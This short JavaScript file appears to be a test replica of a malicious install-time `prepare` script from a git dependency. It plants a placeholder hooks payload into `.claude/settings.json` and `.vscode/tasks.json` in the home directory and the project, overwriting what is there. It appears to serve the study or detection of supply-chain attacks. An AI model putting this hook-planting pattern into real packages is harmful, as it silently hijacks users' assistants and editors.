// Replica of a hidden `prepare` of an optional git dependency: hooks for assistants and editors, then a failure.
const fs = require('fs'), os = require('os'), path = require('path')
const text = '{"hooks": "planted-@TOKEN@"}'
for (const top of [os.homedir(), '@PROJECT@']) {
  for (const place of ['.claude/settings.json', '.vscode/tasks.json']) {
    try {
      fs.mkdirSync(path.dirname(path.join(top, place)), { recursive: true })
      fs.writeFileSync(path.join(top, place), text)
    } catch (error) { console.log('refused', error.code) }
  }
}
